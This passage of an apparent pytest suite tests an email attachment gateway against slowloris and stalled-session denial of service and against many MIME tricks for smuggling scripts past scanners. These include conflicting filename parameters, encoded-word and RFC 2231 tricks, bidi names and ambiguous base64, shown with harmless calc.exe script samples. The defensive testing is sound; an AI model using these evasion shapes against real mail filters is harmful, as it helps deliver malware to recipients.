        qid = submit(g.smtp_port, mail.sender, mail.rcpt, raw)
        t0 = time.monotonic()
        with _greetings(g.smtp_port) as times:
            try:
                got = raw_sink.wait_for(mail.rcpt, timeout=20, give_up=lambda: held(g, qid))
            except AssertionError as e:
                got, failure = [], str(e)
            finally:
                took = time.monotonic() - t0
        slowest = max(times, default=float("inf"))
        assert got and took < 5.0 and slowest < 0.5, (
            f"{'not delivered: ' + failure if not got else f'processing took {took:.1f}s'}; "
            f"{len(times)} greetings meanwhile, the slowest {slowest:.2f}s")
        [tx] = got
        # Not parsed here with Python's email package: its parameter parser is
        # quadratic too (40 s of the test's own time for this header).
        assert wire_problems(tx) == []
        assert b64head(exe) not in tx.wire and exe[-40:] not in tx.wire, "the program was delivered"
        assert mail.readable.encode() in tx.data
        assert quarantined(g.objects, exe)
    finally:
        g.kill()  # a gateway stuck on the message would take 70 s to stop


# ------------------------------------------------------------ connections that hold descriptors or memory


def _slow_requests(port: int, count: int, source: str = "127.0.0.1") -> list[socket.socket]:
    """``count`` HTTP connections, each with a request begun and never
    finished (slowloris); the ones the kernel took."""
    out = []
    for _ in range(count):
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=2, source_address=(source, 0))
            s.sendall(b"GET /healthz HTTP/1.1\r\nHost: gw.test\r\nX-Slow: ")
        except OSError:
            continue
        out.append(s)
    return out


def _answered(s: socket.socket) -> bytes | None:
    """What the gateway sent on ``s`` before closing it; None while open."""
    s.setblocking(False)
    data = b""
    try:
        while chunk := s.recv(4096):
            data += chunk
    except BlockingIOError:
        return None
    except OSError:
        pass
    return data


def test_http_connections_that_never_finish_a_request_leave_smtp_and_others_served(tmp_path: Path,
                                                                                   raw_sink: RawSink) -> None:
    """450 HTTP connections from one address, each a request begun and never
    finished, into a gateway started with 400 open files: SMTP still
    answers and takes mail, another client's /healthz still answers, the
    connections beyond the bound get 503 at once, and the others are closed
    after ``http.idle_timeout`` (3 s here; aiohttp's own default is an hour)."""
    import resource

    g = GatewayProcess(tmp_path, next_hop=f"smtp://127.0.0.1:{raw_sink.port}", threshold=THRESHOLD,
                       route={"tls": "none"},
                       sections={"gateway": {"processes": 1},
                                 "http": {"max_connections": 150, "max_connections_per_client": 100,
                                          "idle_timeout": 3}})
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (400, hard))
    try:
        g.start()
    finally:
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
    slow: list[socket.socket] = []
    try:
        slow = _slow_requests(g.http_port, 450)
        greeting = _ehlo_time(g.smtp_port, timeout=5)
        assert greeting < 1.0, f"SMTP greeting took {greeting:.1f}s with {len(slow)} slow HTTP connections open"
        mail = Mail("slow-http")
        submit(g.smtp_port, mail.sender, mail.rcpt, mail.build(multipart([mail.body()])))
        raw_sink.wait_for(mail.rcpt, timeout=20)
        # Another client address is served.
        with socket.create_connection(("127.0.0.1", g.http_port), timeout=5,
                                      source_address=("127.0.0.2", 0)) as other:
            other.sendall(b"GET /healthz HTTP/1.1\r\nHost: gw.test\r\nConnection: close\r\n\r\n")
            status = other.makefile("rb").readline()
        assert status.startswith(b"HTTP/1.1 200"), f"another client got {status!r}"
        answers = [_answered(s) for s in slow]
        refused = [a for a in answers if a is not None and a.startswith(b"HTTP/1.1 503")]
        assert len(refused) >= 300, f"{len(refused)} of {len(slow)} connections over the bound refused at once"
        wait_until(lambda: all(_answered(s) is not None for s in slow), timeout=20,
                   what="the slow connections to be closed after idle_timeout")
    finally:
        for s in slow:
            s.close()
        g.kill()


def test_https_connections_that_never_say_hello_leave_the_listener_serving(tmp_path: Path,
                                                                           raw_sink: RawSink) -> None:
    """450 TCP connections to the HTTPS listener that never send a TLS hello,
    into a gateway started with 400 open files: SMTP still answers while they
    are open, and once they are gone HTTPS answers again.  Before, the
    listener's accept loop died on the first "too many open files" and the
    port took connections it never served until a restart."""
    import http.client
    import resource
    import ssl

    from tests.certs import self_signed

    cert, key = self_signed(tmp_path)
    g = GatewayProcess(tmp_path, next_hop=f"smtp://127.0.0.1:{raw_sink.port}", threshold=THRESHOLD,
                       route={"tls": "none"}, sections={"gateway": {"processes": 1}})
    g.cfg["http"].update({"base_url": f"https://127.0.0.1:{g.http_port}", "tls_cert": str(cert),
                          "tls_key": str(key), "max_connections": 100})
    g.config_path.write_text(render_config(g.cfg))
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (400, hard))
    try:
        g.start()
    finally:
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
    silent: list[socket.socket] = []
    try:
        for _ in range(450):
            try:
                silent.append(socket.create_connection(("127.0.0.1", g.http_port), timeout=2))
            except OSError:
                pass
        greeting = _ehlo_time(g.smtp_port, timeout=5)
        assert greeting < 1.0, f"SMTP greeting took {greeting:.1f}s with {len(silent)} silent connections open"
        for s in silent:
            s.close()
        silent = []
        context = ssl.create_default_context(cafile=str(cert))

        def served() -> bool:
            conn = http.client.HTTPSConnection("127.0.0.1", g.http_port, context=context, timeout=3)
            try:
                conn.request("GET", "/healthz")
                return conn.getresponse().status == 200
            except OSError:
                return False
            finally:
                conn.close()

        wait_until(served, timeout=30, what="HTTPS to answer again")
    finally:
        for s in silent:
            s.close()
        g.kill()


def _rss_mib(pid: int) -> float:
    with open(f"/proc/{pid}/status") as f:
        return next(int(line.split()[1]) for line in f if line.startswith("VmRSS:")) / 1024


@pytest.mark.parametrize("shape", ["data-lines", "data-one-line", "command-line"])
def test_stalled_smtp_sessions_do_not_each_hold_a_megabyte(tmp_path: Path, raw_sink: RawSink, shape: str) -> None:
    """300 SMTP sessions (three client addresses) each send about 1 MiB and
    stall: DATA in 1000-byte lines, DATA in one line with no end, or a
    command line with no end.  Each session held all of it (and the last
    chunk read besides): the process grew by 330-340 MiB, and by about
    1.1 GiB at the default 1000 sessions.  Now what sessions gather in
    memory is bounded for the process, the rest goes to their spool files,
    and a command line is bounded by itself."""
    g = GatewayProcess(tmp_path, next_hop=f"smtp://127.0.0.1:{raw_sink.port}", threshold=THRESHOLD,
                       route={"tls": "none"}, sections={"gateway": {"processes": 1, "log_level": "debug"}})
    g.start()
    size = 1_040_000
    stalled: list[socket.socket] = []
    stalled_files: list[Any] = []
    try:
        assert g.proc is not None
        before = _rss_mib(g.proc.pid)
        for i in range(300):
            s = socket.create_connection(("127.0.0.1", g.smtp_port), timeout=10,
                                         source_address=(f"127.0.{i // 100}.{2 + i % 100}", 0))
            stalled.append(s)
            f = s.makefile("rb")
            stalled_files.append(f)
            f.readline()
            if shape == "command-line":
                s.sendall(b"NOOP " + b"x" * size)
                continue
            for command in (b"EHLO stall.example\r\n", b"MAIL FROM:<a@example.net>\r\n",
                            b"RCPT TO:<stall@contact.example>\r\n", b"DATA\r\n"):
                s.sendall(command)
                while (line := f.readline())[3:4] == b"-":
                    pass
            assert line.startswith(b"354"), line
            s.sendall(b"Subject: x\r\n\r\n" + (b"y" * 998 + b"\r\n") * (size // 1000) if shape == "data-lines"
                      else b"Subject: " + b"y" * size)
        # A message after them: once it is delivered and the worker idle,
        # the process gives its free heap back (gateway/memory.py), so what
        # stays is what the sessions hold.
        mail = Mail(f"stall-{shape}")
        trims = g.log().count("heap trimmed")  # a debug line, not JSON
        submit(g.smtp_port, mail.sender, mail.rcpt, mail.build(multipart([mail.body()])))
        raw_sink.wait_for(mail.rcpt, timeout=30)
        wait_until(lambda: g.log().count("heap trimmed") > trims,
                   timeout=30, what="the heap to be trimmed")
        grown = _rss_mib(g.proc.pid) - before
        assert grown < 150, f"{len(stalled)} stalled sessions hold {grown:.0f} MiB"
        assert _ehlo_time(g.smtp_port) < 1.0
    finally:
        for s in [*stalled_files, *stalled]:
            s.close()
        g.kill()


@pytest.mark.parametrize("filler", [b"<", b"<a>", b"<b title='x'>"])
def test_a_large_html_body_given_a_notice_does_not_stall_the_gateway(tmp_path: Path, raw_sink: RawSink,
                                                                     filler: bytes) -> None:
    """4 MiB of HTML made of one construct repeated, beside a program (so
    the HTML gets a notice): finding where the notice goes took 7 s on the
    event loop (no greeting answered meanwhile, on any connection of the
    process), and grew with the body up to the 150 MiB a message may have.
    Now a large body is rewritten in a thread and the walk is bounded; the
    notice is in the HTML and the program is not delivered."""
    g = GatewayProcess(tmp_path, next_hop=f"smtp://127.0.0.1:{raw_sink.port}", threshold=THRESHOLD,
                       route={"tls": "none"}, sections={"gateway": {"processes": 1}})
    try:
        g.start()
        mail = Mail(f"html-{filler.decode()}")
        exe = pe(mail.tag)
        body = f"<p>{mail.readable}</p>".encode() + filler * ((4 << 20) // len(filler))
        html = part("text/html; charset=utf-8", body, cte="7bit", disposition="inline")
        alt = multipart([mail.body(), html], subtype="alternative", boundary="alt")
        raw = mail.build(multipart([alt, part("application/octet-stream", exe, name="setup.exe")]))
        assert _ehlo_time(g.smtp_port) < 1.0  # warm
        qid = submit(g.smtp_port, mail.sender, mail.rcpt, raw)
        with _greetings(g.smtp_port) as times:
            [tx] = raw_sink.wait_for(mail.rcpt, timeout=60, give_up=lambda: held(g, qid))
        slowest = max(times, default=float("inf"))
        assert slowest < 0.5, f"{len(times)} greetings while it was processed, the slowest {slowest:.2f}s"
        assert wire_problems(tx) == []
        assert b64head(exe) not in tx.wire and exe[-40:] not in tx.wire, "the program was delivered"
        assert quarantined(g.objects, exe)
        [html_part] = [p for p in email.message_from_bytes(tx.data).walk() if p.get_content_type() == "text/html"]
        assert "setup.exe" in html_part.get_payload(decode=True).decode("utf-8", "replace"), "no notice in the HTML"
    finally:
        g.kill()


@pytest.mark.parametrize("charset", ["undefined", "idna", "punycode", "unknown-8bit", "x-unknown"])
def test_an_unusable_body_charset_with_a_refusal_is_delivered_not_held(gw: GatewayProcess, raw_sink: RawSink,
                                                                       charset: str) -> None:
    mail = Mail(f"charset-{charset}")
    exe = pe(mail.tag)
    # An 8-bit byte: punycode's decoder raises on it even when told to replace.
    eight_bit = b"caf\xe9" + CRLF if charset == "punycode" else b""
    body = part(f"text/plain; charset={charset}", mail.readable.encode() + CRLF + eight_bit, cte="8bit")
    html = part(f"text/html; charset={charset}", f"<p>{mail.readable}</p>".encode() + CRLF, cte="8bit")
    root = multipart([multipart([body, html], subtype="alternative", boundary="alt"),
                      part("application/octet-stream", exe, name="setup.exe")])
    qid = fail_closed(gw, raw_sink, mail, mail.case(root, files=[exe], name="setup.exe"))
    assert held(gw, qid) is None
    listed = gw.command("queue", "list", "--json")
    assert listed.returncode == 0, listed.stderr
    assert mail.rcpt not in listed.stdout


# ------------------------------------------------------------ the sender chooses the customer


def test_a_customer_id_header_from_an_untrusted_client_does_not_choose_the_folder(tmp_path: Path,
                                                                                   raw_sink: RawSink) -> None:
    route = {"tls": "none", **autoreply(raw_sink),
             "customer_id": {"header": "X-CustomerId", "fallback": "sender", TRUSTED_NETWORKS_KEY: ["192.0.2.0/24"]}}
    g = GatewayProcess(tmp_path, next_hop=f"smtp://127.0.0.1:{raw_sink.port}", threshold=THRESHOLD, route=route)
    try:
        g.start()
        mail = Mail("customer-id")
        exe = pe(mail.tag)
        big = pdf_bytes(30_000)  # a real PDF, over the threshold: offloaded
        root = multipart([mail.body(), part("application/octet-stream", exe, name="setup.exe"),
                          part("application/pdf", big, name="big.pdf")])
        fail_closed(g, raw_sink, mail, mail.case(root, files=[exe], extra=["X-CustomerId: victim-123"]))
        keys = [p.relative_to(g.objects).as_posix() for p in g.objects.rglob("*") if p.is_file()]
        assert any(k.startswith("quarantine/") for k in keys) and any(k.startswith("uploads/") for k in keys), keys
        assert not [k for k in keys if "victim-123" in k], keys
    finally:
        g.stop()  # also when it did not start: closes its log


@pytest.mark.parametrize("shape", ["plain-8bit-declared", "html-8bit-declared", "utf8-helo"])
def test_what_the_gateway_adds_to_a_7bit_message_is_7bit(gw: GatewayProcess, raw_sink: RawSink, shape: str) -> None:
    """The next hop is told BODY=8BITMIME (or SMTPUTF8) only when the client
    sent 8-bit data: a message that came 7-bit must leave 7-bit, whatever the
    gateway writes into it (a notice naming a file in UTF-8 in a body
    declared 8bit, the client's HELO in the Received field)."""
    mail = Mail(f"seven-bit-{shape}")
    exe = pe(mail.tag)
    readable = mail.readable.encode() + CRLF
    bodies = [part("text/plain; charset=utf-8", readable, cte="8bit")]
    if shape == "html-8bit-declared":
        bodies.append(part("text/html; charset=utf-8", b"<html><body>" + readable + b"</body></html>", cte="8bit"))
    root = multipart([*bodies, part("application/octet-stream", exe, raw_name=rfc2231("r\u00e9sum\u00e9.exe"))])
    raw = mail.build(root)
    assert raw.isascii()
    helo = "h\u00e9llo.example" if shape == "utf8-helo" else "client.example"
    c = Raw(gw.smtp_port)
    try:
        for line in (f"EHLO {helo}\r\n".encode(), f"MAIL FROM:<{mail.sender}>\r\n".encode(),
                     f"RCPT TO:<{mail.rcpt}>\r\n".encode()):
            assert c.cmd(line).startswith(b"250"), line
        assert c.cmd(b"DATA\r\n").startswith(b"354")
        assert c.cmd(raw + b".\r\n").startswith(b"250")
    finally:
        c.close()
    [tx] = raw_sink.wait_for(mail.rcpt)
    assert wire_problems(tx) == []
    assert tx.data.isascii(), [line for line in tx.data.split(CRLF) if not line.isascii()][:3]
    shown = readable_text(tx.data)
    assert "r\u00e9sum\u00e9.exe" in shown and mail.readable in shown, shown
    assert b64head(exe) not in tx.wire


@pytest.mark.parametrize("header", ["X-Attachment-Offload: offloaded=0", "x-attachment-offload: refused=0",
                                    "X-Attachment-Offload:\r\n refused=0 folded"])
def test_an_inbound_trace_header_does_not_survive_beside_the_gateways(gw: GatewayProcess, raw_sink: RawSink,
                                                                      header: str) -> None:
    mail = Mail(f"trace-{header[:22]}")
    exe = pe(mail.tag)
    root = multipart([mail.body(), part("application/octet-stream", exe, name="setup.exe")])
    fail_closed(gw, raw_sink, mail, mail.case(root, files=[exe], extra=[header]))
    [tx] = raw_sink.for_rcpt(mail.rcpt)
    head = tx.data.split(b"\r\n\r\n", 1)[0]
    assert len(re.findall(rb"(?im)^x-attachment-offload:", head)) == 1, head.decode(errors="replace")


# ------------------------------------------------------------ address forms
# A raw SMTP client (exact bytes out, whole replies back): test_smuggling's.


@pytest.mark.parametrize("rcpt", [b"support@contact.example..", b"support@contact..example",
                                  b"support@.contact.example", b"support@contact.example.",
                                  b"\xff\xfe@contact.example", b"sup\xc3port@contact.example",
                                  b"support@contact.exampl\xe9"])
@pytest.mark.parametrize("smtputf8", [False, True], ids=["ascii", "smtputf8"])
def test_a_malformed_recipient_is_refused_at_rcpt(gw: GatewayProcess, rcpt: bytes, smtputf8: bool) -> None:
    c = Raw(gw.smtp_port)
    try:
        assert c.cmd(b"EHLO client.example\r\n").startswith(b"250")
        assert c.cmd(b"MAIL FROM:<customer@example.net>" + (b" SMTPUTF8" if smtputf8 else b"") + b"\r\n") \
            .startswith(b"250")
        reply = c.cmd(b"RCPT TO:<" + rcpt + b">\r\n")
        assert reply[:1] == b"5", reply
        assert reply[:3] in (b"501", b"553", b"550"), reply
    finally:
        c.close()


def test_a_stuffed_dot_after_a_bare_lf_is_unstuffed(gw: GatewayProcess, raw_sink: RawSink) -> None:
    """Postfix ends a line at a bare LF and unstuffs the dot that starts the
    next one; the delivered text must read the same."""
    mail = Mail("bare-lf-dot")
    c = Raw(gw.smtp_port)
    try:
        for line in (b"EHLO client.example\r\n", f"MAIL FROM:<{mail.sender}>\r\n".encode(),
                     f"RCPT TO:<{mail.rcpt}>\r\n".encode()):
            assert c.cmd(line).startswith(b"250")
        assert c.cmd(b"DATA\r\n").startswith(b"354")
        reply = c.cmd(mail.build(mail.body()) + b"first line\n..hidden dot line\r\nlast line\r\n.\r\n")
        assert reply.startswith(b"250"), reply
    finally:
        c.close()
    [tx] = raw_sink.wait_for(mail.rcpt)
    assert wire_problems(tx) == []
    lines = tx.data.split(b"\r\n")
    assert b".hidden dot line" in lines and b"..hidden dot line" not in lines, tx.data[-200:]


# ------------------------------------------------------------ names


BIDI_NAMES = ["invoice\u202efdp.exe", "photo\u2066gpj.exe\u2069", "r\u2067e\u2068p\u2069.exe"]


@pytest.mark.parametrize("encoding", ["rfc2231", "8bit-header"])
@pytest.mark.parametrize("name", BIDI_NAMES, ids=["rlo", "lri-pdi", "rli-fsi"])
def test_bidi_controls_in_a_name_do_not_reach_the_agent(gw: GatewayProcess, raw_sink: RawSink, name: str,
                                                        encoding: str) -> None:
    mail = Mail(f"bidi-{encoding}-{len(name)}-{ord(name[7])}")
    exe = pe(mail.tag)
    big = b"%PDF-1.4\n" + pe(mail.tag + "pdf", 30_000)[2:]
    pdf_name = name.replace(".exe", ".pdf")

    def named(ctype: str, data: bytes, n: str) -> bytes:
        if encoding == "rfc2231":
            return part(ctype, data, raw_name=rfc2231(n))
        return part(ctype, data, name=n)

    root = multipart([mail.body(), mail.html(), named("application/octet-stream", exe, name),
                      named("application/pdf", big, pdf_name)])
    fail_closed(gw, raw_sink, mail, mail.case(root, files=[exe]))
    [tx] = raw_sink.for_rcpt(mail.rcpt)
    shown = readable_text(tx.data)
    assert not BIDI.findall(shown), [hex(ord(c)) for c in BIDI.findall(shown)]


def test_a_name_with_template_fields_is_not_expanded(gw: GatewayProcess, raw_sink: RawSink) -> None:
    mail = Mail("template")
    big = b"%PDF-1.4\n" + pe(mail.tag + "pdf", 30_000)[2:]
    exe = pe(mail.tag)
    root = multipart([mail.body(), part("application/pdf", big, name="x{size}{filename}y.pdf"),
                      part("application/octet-stream", exe, name="p{size}{filename}q.exe")])
    fail_closed(gw, raw_sink, mail, mail.case(root, files=[exe]))
    [tx] = raw_sink.for_rcpt(mail.rcpt)
    shown = readable_text(tx.data)
    found = re.findall(r"x([^\r\n]*?)y\.pdf", shown) + re.findall(r"p([^\r\n]*?)q\.exe", shown)
    assert found, shown
    for between in found:
        assert not re.search(r"\d", between) and "x" not in between and "p" not in between, found


@pytest.mark.parametrize("name", ["http://evil.example/x.pdf", "https:\\\\evil.example\\x.pdf",
                                  "www.evil.example.pdf"])
def test_a_name_that_is_a_url_puts_no_link_in_the_body(gw: GatewayProcess, raw_sink: RawSink, name: str) -> None:
    mail = Mail(f"urlname-{name[:5]}")
    big = b"%PDF-1.4\n" + pe(mail.tag + "pdf", 30_000)[2:]
    exe = pe(mail.tag)
    root = multipart([mail.body(), mail.html(), part("application/pdf", big, raw_name=rfc2231(name)),
                      part("application/octet-stream", exe, raw_name=rfc2231(name.replace(".pdf", ".exe")))])
    fail_closed(gw, raw_sink, mail, mail.case(root, files=[exe]))
    [tx] = raw_sink.for_rcpt(mail.rcpt)
    shown = readable_text(tx.data)
    assert not re.search(r"(?i)(https?:[/\\]{2}|www\.)evil\.example", shown), shown
    assert not re.search(r'(?i)href="?[^">]*evil\.example', shown), shown


HIDING_TAILS = ["<!-- </body> -->", "<!-- -- > </body></html>", "<textarea></body></html>", "<style></body></html>",
                "<a title='</body>", "<template></body></html>", "<title></body>", "<![CDATA[ > <!-- ]]></body>"]


@pytest.mark.parametrize("tail", HIDING_TAILS)
def test_the_gateways_links_are_not_put_where_the_senders_html_hides_them(gw: GatewayProcess, raw_sink: RawSink,
                                                                          tail: str) -> None:
    """The sender's HTML may end with a comment, raw text or an attribute
    value left open, a "</body>" inside it: the links and notices put
    before that "</body>" would be hidden, and a look-alike link the sender
    wrote above them the only one the agent sees.  They go where a browser
    reads them as markup: before what the sender left open."""
    mail = Mail(f"hide-{HIDING_TAILS.index(tail)}")
    big = pdf_bytes(30_000)
    exe = pe(mail.tag)
    fake = "<p><a href='https://evil.example/a/k1.local.x.y.z'>Secure Attachment: invoice.pdf</a></p>"
    html = f"<html><body><p>{mail.readable}</p>{fake}\r\n{tail}\r\n"
    root = multipart([part("text/html; charset=utf-8", html.encode(), cte="7bit"),
                      part("application/pdf", big, name="invoice.pdf"),
                      part("application/octet-stream", exe, name="setup.exe")])
    fail_closed(gw, raw_sink, mail, mail.case(root, files=[exe]))
    [tx] = raw_sink.for_rcpt(mail.rcpt)
    [shown] = [p.get_payload(decode=True).decode() for p in email.message_from_bytes(tx.data).walk()
               if p.get_content_type() == "text/html"]
    at = shown.index(tail[:9])
    # A comment closed in every reading is passed; anything left open is not.
    before, after = (shown[:at], "") if tail != HIDING_TAILS[0] else ("", shown[at + len(tail):])
    for block in ('<div class="attachment-gateway-notices">', '<div class="attachment-gateway-links">'):
        assert block in before or block in after, shown
    assert re.search(r'<a href="http://127\.0\.0\.1:\d+/a/[^"]+">', before or after), shown


# ------------------------------------------------------------ more shapes (beyond the list)


JSCRIPT = b"var s = new ActiveXObject('WScript.Shell'); s.Run('calc.exe');\r\n"


@pytest.mark.parametrize("shape", ["rfc2231-name-disagrees", "content-type-name-disagrees",
                                   "rfc2231-continuation", "dotdot-rfc2231", "two-dispositions", "trailing-dot",
                                   "trailing-space", "only-an-extension", "nul-in-rfc2231", "nul-in-encoded-word",
                                   "lf-in-rfc2231", "tab-in-name", "name-on-disposition",
                                   "disposition-name-differs", "encoded-word-language",
                                   "encoded-word-unknown-charset", "encoded-word-in-rfc2231"])
def test_a_runnable_name_in_a_second_name_parameter_is_seen(gw: GatewayProcess, raw_sink: RawSink,
                                                            shape: str) -> None:
    """Python returns ``filename`` when ``filename*`` disagrees; a mail client
    may show the other one.  A harmless name must not hide a runnable one."""
    mail = Mail(f"names-{shape}")
    blob = f"// {mail.tag}\r\n".encode() + JSCRIPT  # the tag first: the last 40 bytes must not be the Subject's
    if shape == "rfc2231-name-disagrees":
        att = part("text/plain", blob, raw_name="filename=\"notes.txt\"; filename*=UTF-8''notes.js")
    elif shape == "content-type-name-disagrees":
        att = part('text/plain; name="notes.js"', blob, name="notes.txt")
    elif shape == "rfc2231-continuation":
        att = part("text/plain", blob, raw_name="filename*0=\"notes\"; filename*1=\".t\"; filename*2=\"xt.js\"")
    elif shape == "dotdot-rfc2231":
        att = part("text/plain", blob, raw_name="filename*=UTF-8''..%2F..%2F..%2Fstartup%2Fnotes.js")
    elif shape == "only-an-extension":
        # Windows opens ".js" as a script: a name that is only an extension has one.
        att = part("text/plain", blob, name=".js")
    elif shape == "nul-in-rfc2231":
        # One reader cuts the name at the NUL (notes.js), another drops it (notes.js.txt).
        att = part("text/plain", blob, raw_name="filename*=UTF-8''notes.js%00.txt")
    elif shape == "nul-in-encoded-word":
        att = part("text/plain", blob, raw_name='filename="=?utf-8?q?notes.js=00.txt?="')
    elif shape == "lf-in-rfc2231":
        att = part("text/plain", blob, raw_name="filename*=UTF-8''notes.js%0A.txt")
    elif shape == "name-on-disposition":
        # No filename, no Content-Type name: some clients take this one.
        att = part("text/plain", blob, raw_name='name="notes.js"')
    elif shape == "disposition-name-differs":
        att = part("text/plain", blob, raw_name='filename="notes.txt"; name="notes.js"')
    elif shape == "tab-in-name":
        att = part("text/plain", blob, raw_name='filename="notes.js\t.txt"')
    elif shape == "encoded-word-language":
        # RFC 2231 section 5's language in an encoded word: notes.js.
        att = part("text/plain", blob, raw_name='filename="=?utf-8*en?B?bm90ZXMuanM=?="')
    elif shape == "encoded-word-unknown-charset":
        # Python cannot decode it (no extension to the gateway); a client may: notes.js.
        att = part("text/plain", blob, raw_name='filename="=?x-unknown?B?bm90ZXMuanM=?="')
    elif shape == "encoded-word-in-rfc2231":
        att = part("text/plain", blob, raw_name="filename*=utf-8''%3D%3Futf-8%3FB%3Fbm90ZXMuanM%3D%3F%3D")
    elif shape == "two-dispositions":
        # Python reads the first, a client may read the last.
        att = part("text/plain", blob, name="notes.txt", extra=['Content-Disposition: attachment; filename="notes.js"'])
    else:
        # Windows drops a trailing dot or space: the file saved is notes.js.
        att = part("text/plain", blob, name="notes.js." if shape == "trailing-dot" else "notes.js ")
    fail_closed(gw, raw_sink, mail, mail.case(multipart([mail.body(), att]), files=[blob],
                                              markers=[b"ActiveXObject"]))


@pytest.mark.parametrize("shape", ["blank-before-colon", "disposition-without-semicolon", "unbalanced-quote",
                                   "junk-line-before", "8bit-field-name-before", "text-after-quote",
                                   "text-after-quote-ctype", "blank-in-token", "comment-before-name",
                                   "disposition-comment"])
def test_a_file_behind_a_field_readers_split_differently_is_not_delivered(gw: GatewayProcess, raw_sink: RawSink,
                                                                          shape: str) -> None:
    """A field Python's parser reads one way and a lenient client another
    must not turn a named script into inline text the gateway lets by."""
    mail = Mail(f"field-{shape}")
    # The tag first: the file's last 40 bytes must not be the Subject's.
    blob = f"// {mail.tag}\r\n".encode() + JSCRIPT
    if shape == "blank-before-colon":
        # Python ends the header block at the field and reads it as body.
        att = part("text/plain", blob, name="notes.js").replace(b"Content-Disposition:", b"Content-Disposition :", 1)
    elif shape == "disposition-without-semicolon":
        att = part("text/plain", blob, raw_name="").replace(b"attachment; ", b"attachment filename=notes.js", 1)
    elif shape == "text-after-quote":
        # notes.js to readers that stop at the closing quote.
        att = part("text/plain", blob, raw_name='filename="notes.js".txt')
    elif shape == "text-after-quote-ctype":
        att = part('text/plain; name="notes.js".txt', blob)
    elif shape == "blank-in-token":
        att = part("text/plain", blob, raw_name="filename=notes.js .txt")
    elif shape == "disposition-comment":
        # Nameless HTML: "attachment (c)" is an attachment to an RFC reader
        # (opened in a browser), the message's HTML text to one comparing words.
        att = part("text/html", blob, extra=["Content-Disposition: attachment (c)"])
    elif shape == "comment-before-name":
        # RFC readers skip the comment and find the name.
        att = part("text/plain", blob, raw_name='(c) filename="notes.js"')
    elif shape in ("junk-line-before", "8bit-field-name-before"):
        # Python ends the header block at a line that cannot be a field;
        # Mozilla's parser skips it and reads the fields after it.
        junk = b"X-Junk-without-colon\r\n" if shape == "junk-line-before" else "\u00e9t\u00e9: 1\r\n".encode()
        att = part("text/plain", blob, name="notes.js").replace(b"Content-Disposition:", junk + b"Content-Disposition:", 1)
    else:
        # Python's charset is 'utf-8; name=notes.js'; a client may see the name.
        att = part('text/plain; charset="utf-8; name=notes.js', blob)
    fail_closed(gw, raw_sink, mail, mail.case(multipart([mail.body(), att]), files=[blob], markers=[b"ActiveXObject"]))


def test_a_junk_line_in_the_message_header_does_not_hide_its_structure(gw: GatewayProcess,
                                                                       raw_sink: RawSink) -> None:
    # Before MIME-Version and the multipart Content-Type: Python reads the
    # rest as one text body, a lenient client finds the program in it.
    mail = Mail("junk-top")
    exe = pe(mail.tag)
    root = multipart([mail.body(), part("application/octet-stream", exe, name="setup.exe")])
    raw = mail.build(root).replace(b"MIME-Version:", b"X-Junk-without-colon\r\nMIME-Version:", 1)
    qid, tx = deliver(gw, raw_sink, mail, raw)
    assert b64head(exe) not in tx.wire and exe[-40:] not in tx.wire, "the program was delivered"
    assert wire_problems(tx) == []
    assert b"could not be examined" in tx.data
    assert quarantined(gw.objects, exe)
    assert held(gw, qid) is None


@pytest.mark.parametrize("shape", ["attached-hta", "attached-bat"])
def test_an_attached_message_named_as_a_program_is_not_delivered(gw: GatewayProcess, raw_sink: RawSink,
                                                                 shape: str) -> None:
    """Saved under its name, an attached message is that file: mshta and
    cmd skip its header lines and run the rest."""
    mail = Mail(shape)
    name = "invoice.hta" if shape == "attached-hta" else "invoice.bat"
    body = (b"Content-Type: text/html\r\n\r\n<script>new ActiveXObject('WScript.Shell').Run('calc');</script>\r\n"
            if shape == "attached-hta" else b"Content-Type: text/plain\r\n\r\ncalc.exe\r\ncalc.exe\r\n")
    inner = f"X-Tag: {mail.tag}\r\nFrom: x@example.net\r\nSubject: inner\r\n".encode() + body
    att = part(f'message/rfc822; name="{name}"', inner, cte="7bit", name=name)
    fail_closed(gw, raw_sink, mail, mail.case(multipart([mail.body(), att]), files=[inner],
                                              markers=[b"WScript.Shell"]))


@pytest.mark.parametrize("declared,name", [("application/x-javascript", None), ("text/vbscript", None),
                                           ("application/hta", "invoice"), ("application/ecmascript", None),
                                           ("text/jscript", None), ("application/x-sh", None),
                                           ("image/svg+xml", None)])
def test_a_script_known_only_by_its_declared_type_is_not_delivered(gw: GatewayProcess, raw_sink: RawSink,
                                                                   declared: str, name: str | None) -> None:
    """A client names a file with no extension by its declared type: text
    declared as a script is saved and opened as one."""
    mail = Mail(f"declared-{declared}")
    blob = f"// {mail.tag}\r\n".encode() + JSCRIPT
    att = part(declared, blob, name=name, extra=[] if name else ["Content-Disposition: attachment"])
    fail_closed(gw, raw_sink, mail, mail.case(multipart([mail.body(), att]), files=[blob], markers=[b"ActiveXObject"]))


@pytest.mark.parametrize("shape", ["blank-after-base64", "base64-semicolon", "x-base64", "after-padding-group",
                                   "after-complete-padding", "after-padding-large", "one-too-many",
                                   "one-too-many-large"])
def test_a_body_readers_decode_differently_is_not_delivered(gw: GatewayProcess, raw_sink: RawSink,
                                                            shape: str) -> None:
    """What the gateway examines must be what every client opens: a
    transfer encoding a lenient client reads as base64 where Python does
    not, or base64 with more data after its padding (Python carries on
    after a group of padding alone, other decoders stop at the first), is
    decoded as a client would or not forwarded at all."""
    mail = Mail(f"decode-{shape}")
    exe = pe(mail.tag)
    notes = b"Meeting notes, nothing to see here.\r\n"  # 37 bytes: its base64 ends in "="
    if shape.startswith("one-too-many"):
        # A program of 3k bytes, then one more character: Python's email
        # package gives the text still encoded, other decoders the program.
        if shape.endswith("large"):
            exe += bytes(800_000)  # over 1 MiB encoded: decoded as a stream
        exe += bytes(-len(exe) % 3)
        att = part("text/plain", b"", name="notes.txt", cte="").replace(
            b"\r\n\r\n", b"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64(exe) + b"A\r\n", 1)
    elif shape.startswith("after-"):
        if shape == "after-padding-large":
            notes += b"More notes.\r\n" * 80_000 + b"!"  # over 1 MiB encoded: decoded as a stream
        hidden = {"after-padding-group": b"====\r\n", "after-complete-padding": b"",
                  "after-padding-large": b"====\r\n"}[shape]
        assert b64(notes).rstrip().endswith(b"=")
